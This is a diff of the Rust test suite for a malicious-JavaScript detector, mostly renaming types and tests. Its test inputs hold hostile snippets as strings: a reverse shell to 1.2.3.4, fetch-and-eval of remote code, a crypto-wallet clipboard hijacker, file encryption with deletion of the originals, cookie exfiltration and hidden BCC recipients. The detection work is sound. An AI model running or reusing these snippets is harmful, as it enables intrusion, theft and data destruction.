@@ -1,27 +1,27 @@
 use super::*;
-use crate::act::{CodeOrigin, Taint};
+use crate::action::{CodeOrigin, Taint};
 
-fn acts(text: &str) -> Acts {
+fn actions(text: &str) -> Actions {
     read("x.js", text).unwrap_or_else(|error| panic!("{error}: {text}"))
 }
 
 fn executes(text: &str) -> Option<CodeOrigin> {
-    acts(text).located.into_iter().find_map(|seen| match seen.act {
-        Act::Executes(code) => Some(code),
+    actions(text).located.into_iter().find_map(|seen| match seen.action {
+        Action::ExecutesCode(code) => Some(code),
         _ => None,
     })
 }
 
 fn sends(text: &str) -> Taint {
-    let sent = acts(text).located.into_iter().find_map(|seen| match seen.act {
-        Act::Network { sends, .. } if sends.is_secret() => Some(sends),
+    let sent = actions(text).located.into_iter().find_map(|seen| match seen.action {
+        Action::Connects { sends, .. } if sends.is_secret() => Some(sends),
         _ => None,
     });
     sent.unwrap_or_default()
 }
 
 fn inner(text: &str) -> Vec<String> {
-    acts(text).embedded.into_iter().map(|inner| inner.text).collect()
+    actions(text).embedded.into_iter().map(|inner| inner.text).collect()
 }
 
 #[test]
@@ -47,14 +47,14 @@ fn credentials_flow_to_hosts() {
 }
 
 #[test]
-fn logging_in_is_no_theft() {
+fn login_tokens_are_not_reported_as_sent() {
     let text = "const k = process.env.API_KEY;\nfetch('https://a.example', { headers: { Authorization: `Bearer ${k}` } });";
     assert!(!sends(text).is_secret());
     assert!(!sends("require('child_process').spawn('ls', [], { env: process.env })").is_secret());
 }
 
 #[test]
-fn code_from_elsewhere() {
+fn downloaded_code_is_reported() {
     let fetched = Some(CodeOrigin::Fetched("https://a.example/x".into()));
     assert_eq!(
         executes("const r = await fetch('https://a.example/x'); eval(await r.text());"),
@@ -82,25 +82,25 @@ fn constants_are_folded() {
 }
 
 #[test]
-fn shells_for_others() {
+fn reverse_shells_are_found() {
     let text = "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(9, '1.2.3.4', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });";
-    assert!(acts(text).located.iter().any(|seen| seen.act == Act::ReverseShell));
+    assert!(actions(text).located.iter().any(|seen| seen.action == Action::ReverseShell));
 }
 
 #[test]
-fn what_nests_without_end_is_refused() {
+fn deep_nesting_is_rejected() {
     for text in ["(", "[", "!", "a=>", "if(a)", "a?", "{", "`${", "-", "new ", "await "] {
         assert!(read("x.js", &text.repeat(50_000)).is_err(), "{text}");
     }
 }
 
-fn has(text: &str, wanted: &Act) -> bool {
-    acts(text).located.iter().any(|seen| seen.act == *wanted)
+fn has(text: &str, wanted: &Action) -> bool {
+    actions(text).located.iter().any(|seen| seen.action == *wanted)
 }
 
 fn hosts(text: &str) -> Vec<(String, Vec<String>)> {
-    let network = acts(text).located.into_iter().filter_map(|seen| match seen.act {
-        Act::Network { to, log_in, .. } => Some((to, log_in)),
+    let network = actions(text).located.into_iter().filter_map(|seen| match seen.action {
+        Action::Connects { to, log_in, .. } => Some((to, log_in)),
         _ => None,
     });
     network.collect()
@@ -137,7 +137,7 @@ fn secrets_flow_through_callbacks_and_streams() {
 }
 
 #[test]
-fn fetched_code_runs_in_many_ways() {
+fn downloaded_code_is_found_in_all_call_forms() {
     for text in [
         "fetch('https://a.example/x').then((r) => r.text()).then(eval);",
         "const W = require('ws'); const ws = new W('https://a.example/x');\nws.on('message', (m) => { const { v } = JSON.parse(String(m)); require('child_process').spawn(v, { shell: true }); });",
@@ -164,7 +164,7 @@ fn fetched_code_runs_in_many_ways() {
 }
 
 #[test]
-fn clients_talk_to_their_address() {
+fn client_addresses_are_recorded() {
     let token = |name: &str| vec![name.to_owned()];
     let text = "import OpenAI from 'openai'; new OpenAI({ apiKey: process.env.OPENAI_API_KEY, baseURL: 'https://a.example/v1' });";
     assert!(hosts(text).contains(&("https://a.example/v1".into(), token("OPENAI_API_KEY"))));
@@ -181,25 +181,24 @@ fn functions_of_other_files_are_known() {
     let report = "exports.report = async (facts) => fetch('https://a.example', { body: facts });";
     assert!(read_with("main.js", main, &mut state).is_ok());
     let found = read_with("report.js", report, &mut state).unwrap_or_default();
-    let sent = found
-        .located
-        .iter()
-        .any(|seen| matches!(&seen.act, Act::Network { sends, .. } if sends.credential.is_some()));
+    let sent = found.located.iter().any(
+        |seen| matches!(&seen.action, Action::Connects { sends, .. } if sends.credential.is_some()),
+    );
     assert!(sent);
 }
 
 #[test]
-fn files_and_clipboards_of_the_user() {
-    let swap = Act::Obscures("what the user copies is replaced");
+fn user_files_and_clipboard_are_tainted() {
+    let swap = Action::Obfuscates("the clipboard content of the user is replaced");
     let text = "import c from 'clipboardy'; setInterval(() => { if (/^bc1/.test(c.readSync())) c.writeSync('bc1x'); }, 500);";
     assert!(has(text, &swap));
     assert!(!has("import c from 'clipboardy'; c.writeSync('x');", &swap));
     let text = "const fs = require('fs'), crypto = require('crypto');\nfor (const f of fs.readdirSync('x')) { const c = crypto.createCipheriv('a', k, v); fs.writeFileSync(f + '.enc', c.update(fs.readFileSync(f))); fs.unlinkSync(f); }";
-    assert!(has(text, &Act::Deletes("the user's files after encrypting them".into())));
+    assert!(has(text, &Action::DestroysData("the user's files after encrypting them".into())));
 }
 
 #[test]
-fn own_work_stays_quiet() {
+fn harmless_scripts_have_no_actions() {
     for text in [
         "const env = (n) => process.env[n]; fetch('https://a.example', { method: 'POST', body: JSON.stringify({ m: env('MODE') }) });",
         "const c = { key: process.env.X_KEY, url: 'https://a.example' }; fetch(c.url, { method: 'POST', body: '1' });",
@@ -210,7 +209,7 @@ fn own_work_stays_quiet() {
 }
 
 #[test]
-fn calls_within_calls_end() {
+fn nested_calls_terminate() {
     let function = |n: usize| format!("const f{n} = (x) => {{ f{m}(x); f{m}(x); }};\n", m = n + 1);
     let functions = (0..40).map(function).collect::<Vec<_>>().concat();
     assert!(read("x.js", &format!("{functions}f0(process.env);")).is_ok());
@@ -229,11 +228,11 @@ fn calls_within_calls_end() {
 }
 
 #[test]
-fn what_users_of_an_application_send() {
+fn web_form_data_is_tracked() {
     let private = |text: &str| {
-        let acts = acts(text).located;
-        acts.iter()
-            .any(|seen| matches!(&seen.act, Act::Network { sends, .. } if sends.private.is_some()))
+        let actions = actions(text).located;
+        actions.iter()
+            .any(|seen| matches!(&seen.action, Action::Connects { sends, .. } if sends.private.is_some()))
     };
     for text in [
         "module.exports = () => (req, res, next) => { fetch('https://a.example', { body: req.headers.cookie }); };",
@@ -255,7 +254,7 @@ fn what_users_of_an_application_send() {
 }
 
 #[test]
-fn functions_made_of_answers() {
+fn functions_constructed_from_responses_are_found() {
     for code in [
         "new Function.constructor('require', d.x)(require)",
         "Function.constructor(d.x)()",
@@ -275,15 +274,15 @@ fn functions_made_of_answers() {
 }
 
 #[test]
-fn mails_to_somebody_else() {
-    let mails = |text: &str| {
-        let acts = acts(text).located;
-        acts.iter()
-            .any(|seen| matches!(&seen.act, Act::Network { to, .. } if to.contains("a@b.example")))
+fn fixed_mail_recipients_are_found() {
+    let has_fixed_recipient = |text: &str| {
+        let actions = actions(text).located;
+        actions.iter()
+            .any(|seen| matches!(&seen.action, Action::Connects { to, .. } if to.contains("a@b.example")))
     };
-    assert!(mails("t.sendMail({ to: user, bcc: 'a@b.example' });"));
-    assert!(mails("GmailApp.sendEmail(to, 's', b, { bcc: 'a@b.example' });"));
-    assert!(mails("t.sendMail({ to: [user, 'a@b.example'] });"));
-    assert!(!mails("t.sendMail({ to: 'a@b.example' });"));
-    assert!(!mails("t.sendMail({ to: user, bcc: process.env.BCC });"));
+    assert!(has_fixed_recipient("t.sendMail({ to: user, bcc: 'a@b.example' });"));
+    assert!(has_fixed_recipient("GmailApp.sendEmail(to, 's', b, { bcc: 'a@b.example' });"));
+    assert!(has_fixed_recipient("t.sendMail({ to: [user, 'a@b.example'] });"));
+    assert!(!has_fixed_recipient("t.sendMail({ to: 'a@b.example' });"));
+    assert!(!has_fixed_recipient("t.sendMail({ to: user, bcc: process.env.BCC });"));
 }
